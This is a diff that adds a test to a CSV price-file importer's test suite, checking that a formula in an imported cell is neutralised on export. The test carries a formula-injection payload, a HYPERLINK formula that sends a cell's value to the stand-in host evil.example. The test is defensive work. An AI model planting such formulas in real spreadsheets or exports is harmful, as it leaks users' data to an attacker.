@@ -228,6 +228,23 @@ describe('nines compare --prices on hostile price files', () => {
     ]);
   });
 
+  it('a formula in an imported cell stays text, and is neutralised in the exported breakdown', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"prices")';
+    const prices = await file(
+      'formula.csv',
+      [
+        'key,usd,unit,source',
+        `aws:eu-west-1:load-balancer:alb,0.0252,hour,"${formula.replaceAll('"', '""')}"`,
+      ].join('\n'),
+    );
+    const run = await compare(prices);
+    expect(run.code).toBe(0);
+    const csv = await runCli('compare', template('ha-options'), '--prices', prices, '--csv');
+    const rows = csv.stdout.split('\r\n').filter((row) => row.includes('HYPERLINK'));
+    expect(rows.length).toBeGreaterThan(0);
+    for (const row of rows) expect(row).toContain(`"'${formula.replaceAll('"', '""')}"`);
+  });
+
   it('UTF-16 and Latin-1 price files are refused by their bytes', async () => {
     const le = await file('prices-utf16.csv', new Uint8Array([0xff, 0xfe, 0x6b, 0x00]));
     const latin1 = await file('prices-latin1.csv', new Uint8Array([0x6b, 0x65, 0x79, 0xe9]));
